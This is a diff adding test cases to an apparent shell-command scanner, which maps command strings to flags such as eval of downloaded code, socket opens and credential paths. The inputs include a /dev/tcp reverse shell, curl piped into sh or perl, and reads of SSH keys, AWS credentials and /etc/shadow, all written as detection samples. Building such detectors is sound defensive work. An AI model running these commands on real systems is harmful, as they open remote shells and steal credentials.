@@ -39,6 +39,16 @@ FOUND: dict[str, set[str]] = {
     "nohup nice -n 10 a &": {"command nohup", "command nice", "command a"},
     "ls | xargs -n 1 rm": {"command ls", "command xargs", "command rm"},
     "find . -name x -exec rm {} ;": {"command find", "command rm"},
+    "find . -exec a {} \\; -exec b {} +": {"command find", "command a", "command b"},
+    "sudo --user root env --unset A timeout --signal KILL 5 a": {
+        "command sudo", "command env", "command timeout", "command a",
+    },
+    "flock /tmp/lock a; chroot /x b; coproc c; watch -n 1 d": {
+        *(f"command {name}" for name in ("flock", "chroot", "coproc", "watch", "a", "b", "c", "d")),
+    },
+    "export LD_PRELOAD=./a.so A=1": {"command.env LD_PRELOAD"},
+    "declare -x PYTHONPATH=a": {"command.env PYTHONPATH"},
+    "declare LD_PRELOAD=a": set(),
     # text becomes code
     'eval "$x"': {"command eval", "eval.string eval"},
     'eval "$(echo x | base64 -d)"': {
@@ -64,6 +74,20 @@ FOUND: dict[str, set[str]] = {
     "cat <<EOF | bash\na\nEOF": {"command cat", "command bash", "eval.string bash"},
     "bash <<< 'a'": {"command bash", "eval.string bash"},
     "sh | a": {"command sh", "command a"},
+    "bash -lc a": {"command bash", "eval.string bash"},
+    "bash < file": {"command bash", "eval.string bash"},
+    "sh < <(curl x)": {*CURL, "command sh", "eval.string sh", "eval.downloaded curl"},
+    "ls | xargs bash -c": {"command ls", "command xargs", "command bash", "eval.string bash"},
+    "curl x | perl": {*CURL, "command perl", "eval.string perl", "eval.downloaded curl"},
+    "perl -e a; ruby -e a; php -r a": {
+        *(f"{code} {name}" for code in ("command", "eval.string") for name in ("perl", "ruby", "php")),
+    },
+    # data for a program that stands elsewhere
+    "curl x | python3 -m json.tool": {*CURL, "command python3"},
+    "curl x | python3 a.py": {*CURL, "command python3"},
+    "curl x | perl a.pl": {*CURL, "command perl"},
+    "bash a.sh <<< a": {"command bash"},
+    "python3 a.py <<EOF\na\nEOF": {"command python3"},
     # the rest
     "echo x > /dev/tcp/192.0.2.1/80": {"command echo", "socket.open /dev/tcp"},
     "bash -i >& /dev/tcp/192.0.2.1/80 0>&1": {"command bash", "socket.open /dev/tcp"},
@@ -71,6 +95,7 @@ FOUND: dict[str, set[str]] = {
     "cat ~/.ssh/id_rsa": {"command cat", "credential.path .ssh", "credential.path id_rsa"},
     'cat "$HOME/.aws/credentials"': {"command cat", "credential.path .aws/"},
     "cat ~/.s'sh'/x": {"command cat", "credential.path .ssh"},
+    "cat /etc/\\shadow": {"command cat", "credential.path /etc/shadow"},
     "cat < /etc/shadow": {"command cat", "credential.path /etc/shadow"},
     "": set(),
     "# curl x | sh": set(),
@@ -114,7 +139,12 @@ def test_whether_all_was_understood_is_told() -> None:
         ("cat <<EOF | python3\nimport os\nEOF\n", Code("python", "import os\n")),
         ("bash <<< 'a b'", Code("shell", "a b")),
         ("find . -exec sh -c 'a' ;", Code("shell", "a")),
+        ("env -S 'a b'", Code("shell", "a b")),
+        ("su root -c 'a b'", Code("shell", "a b")),
+        ("alias l='a | b'", Code("shell", "a | b")),
+        ("flock /tmp/lock -c 'a b'", Code("shell", "a b")),
         ('bash -c "$x"', None),
+        ("perl -e 'a'", None),
         ('eval "$x"', None),
         ("cat <<EOF\na\nEOF\n", None),
     ],
